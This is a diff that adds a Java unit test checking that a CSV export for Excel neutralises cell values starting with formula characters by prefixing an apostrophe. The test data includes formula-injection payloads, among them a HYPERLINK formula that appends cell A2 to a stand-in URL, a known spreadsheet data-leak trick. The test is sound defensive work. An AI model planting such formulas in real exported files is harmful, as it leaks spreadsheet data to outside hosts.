@@ -108,6 +108,32 @@ class ExportTest {
     }
 
     @Test
+    void aCsvFileForExcelShowsTextThatLooksLikeAFormulaAsText() throws Exception {
+        TestDataset dataset = TestDataset.create();
+        List<String> names = List.of("=HYPERLINK(\"http://x/?\"&A2,\"click\")", "+66 2 123 4567", "-x", "@SUM(A1)",
+                "\tTabbed", "\rReturned", "Somchai = 1", "");
+        for (int n = 0; n < names.size(); n++) {
+            Map<String, Object> record = new HashMap<>(TestDataset.record("F-" + n, n));
+            record.put("name", names.get(n));
+            dataset.put("F-" + n, record);
+        }
+
+        for (boolean forExcel : List.of(true, false)) {
+            byte[] bytes = Api.as(TestDataset.OWNER).get(export(dataset) + "?format=csv&bom=" + forExcel).then()
+                    .statusCode(200).extract().asByteArray();
+            int bom = forExcel ? 3 : 0;
+            List<CSVRecord> rows = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).build()
+                    .parse(new StringReader(new String(bytes, bom, bytes.length - bom, StandardCharsets.UTF_8)))
+                    .getRecords();
+            for (int n = 0; n < names.size(); n++) {
+                String name = names.get(n);
+                boolean formula = n < 6;
+                assertEquals(forExcel && formula ? "'" + name : name, rows.get(n).get("name"), "name of F-" + n);
+            }
+        }
+    }
+
+    @Test
     void theOwnerExportsEveryRecordAsStoredAndTheAuditTrailRecordsTheEndWithItsRecords() throws Exception {
         TestDataset dataset = TestDataset.create();
         dataset.load(n -> "O-" + n, 1, 30);
